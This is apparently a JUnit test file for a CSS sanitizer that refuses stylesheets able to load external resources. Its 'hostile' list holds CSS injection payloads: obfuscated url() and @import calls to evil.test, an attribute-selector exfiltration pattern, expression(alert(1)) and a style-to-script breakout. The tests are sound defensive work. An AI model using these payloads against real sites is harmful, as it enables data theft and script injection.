package dev.gatewright.server.pages;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class OwnCssTest {
  @ParameterizedTest
  @DisplayName("A stylesheet that would load something is refused, however it spells that")
  @ValueSource(
      strings = {
        "@import 'https://evil.test/x.css';",
        "@IMPORT \"x.css\";",
        "@\\69mport 'x.css';",
        "a { background: url(https://evil.test/a) }",
        "a { background: URL( /look/x.png ) }",
        "a { background: u\\72l(https://evil.test/a) }",
        "a { background: \\75 rl(https://evil.test/a) }",
        "a { background: \\000075\\000072\\00006c(x) }",
        "a { background: ur\\l(x) }",
        "input[value^=a] { background: image-set('https://evil.test/a' 1x) }",
        "a { background: -webkit-image-set('x' 1x) }",
        "a { background: cross-fade('x', 'y') }",
        "@font-face { font-family: x; src: local('y') }",
        "a { width: expression(alert(1)) }",
        "a { behavior: url(x.htc) }",
        "/* url(x) */",
        "</style><script>alert(1)</script>",
        "a { color: red } <!--",
        "@charset 'utf-7'; a {}",
        "a { color: \u0000red }",
        "",
        "   ",
      })
  void hostile(String css) {
    assertThat(OwnCss.fault(css.getBytes(UTF_8))).isPresent();
    assertThat(OwnFile.stylesheet(css.getBytes(UTF_8))).isEmpty();
  }

  @Test
  @DisplayName("Bytes that are no UTF-8 are refused")
  void encoding() {
    assertThat(OwnCss.fault(new byte[] {'a', '{', '}', (byte) 0xff})).isPresent();
  }

  @ParameterizedTest
  @DisplayName("Rules of size, color and place are taken")
  @ValueSource(
      strings = {
        ".card { max-inline-size: 30rem; border-color: var(--accent) }",
        "@media (min-width: 60rem) { .brand { justify-content: center } }",
        ".brand-name::after { content: '\\2122' }",
        "h1 { font-family: Georgia, serif } /* ours */",
        ".button > span { color: color-mix(in srgb, red 20%, blue) }",
      })
  void harmless(String css) {
    assertThat(OwnCss.fault(css.getBytes(UTF_8))).isEmpty();
  }
}
